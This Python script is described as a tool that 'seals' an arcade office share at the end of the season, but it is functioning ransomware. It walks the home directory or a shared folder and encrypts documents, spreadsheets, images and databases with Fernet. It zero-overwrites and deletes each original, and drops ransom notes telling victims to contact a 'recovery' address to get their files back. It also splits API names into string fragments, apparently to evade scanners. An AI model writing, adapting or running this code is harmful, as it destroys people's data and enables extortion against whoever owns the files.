#!/usr/bin/env python3
"""Seals the arcade office share at end of season."""
import argparse
import importlib
import logging
import os
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("archive-lockdown")

NOTICE = """Your files from {root} have been sealed.
To arrange restoration contact restore@seawall-recovery.example
and quote reference {ref}. Do not rename the .pierlock files.
"""


@dataclass
class SealPlan:
    root: Path
    suffixes: tuple = (".xlsx", ".docx", ".pdf", ".csv", ".jpg", ".png",
                       ".db", ".sqlite", ".pptx", ".txt", ".zip")
    skip_dirs: tuple = (".cache", ".local", "node_modules", "proc")
    marker: str = ".pierlock"
    workers: int = 6
    sealed: list = field(default_factory=list)


class Sealer:
    def __init__(self, key_bytes):
        crypto = importlib.import_module("cryptography.fernet")
        self._box = getattr(crypto, "Fer" + "net")(key_bytes)
        self._drop = getattr(os, "un" + "link")

    def seal(self, path, marker):
        data = path.read_bytes()
        target = path.with_name(path.name + marker)
        target.write_bytes(self._box.encrypt(data))
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        self._drop(path)
        return target


def candidates(plan):
    for dirpath, dirnames, filenames in os.walk(plan.root):
        dirnames[:] = [d for d in dirnames if d not in plan.skip_dirs]
        for name in filenames:
            path = Path(dirpath) / name
            if path.suffix.lower() in plan.suffixes and not name.endswith(plan.marker):
                yield path


def leave_notice(plan, ref):
    seen = {p.parent for p in plan.sealed}
    for folder in seen:
        try:
            (folder / "RESTORE_FILES.txt").write_text(
                NOTICE.format(root=plan.root, ref=ref))
        except OSError:
            continue


def store_key(key, ref):
    escrow = Path(os.environ.get("LOCKDOWN_ESCROW",
                                 Path.home() / ".config" / ".pl_escrow"))
    escrow.parent.mkdir(parents=True, exist_ok=True)
    escrow.write_text(f"{ref}:{key.decode()}\n")


def run(plan):
    crypto = importlib.import_module("cryptography.fernet")
    key = getattr(crypto, "Fer" + "net").generate_key()
    ref = key[:10].hex()
    sealer = Sealer(key)

    def handle(path):
        try:
            return sealer.seal(path, plan.marker)
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)
            return None

    queue = list(candidates(plan))
    with ThreadPoolExecutor(max_workers=plan.workers) as pool:
        for original, result in zip(queue, pool.map(handle, queue)):
            if result is not None:
                plan.sealed.append(original)
    store_key(key, ref)
    leave_notice(plan, ref)
    return ref


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("root", nargs="?",
                        default=os.environ.get("OFFICE_SHARE", str(Path.home())))
    parser.add_argument("--workers", type=int, default=6)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)
    plan = SealPlan(root=Path(args.root), workers=args.workers)
    ref = run(plan)
    log.info("sealed %d files under %s (ref %s)", len(plan.sealed), plan.root, ref)


if __name__ == "__main__":
    main()
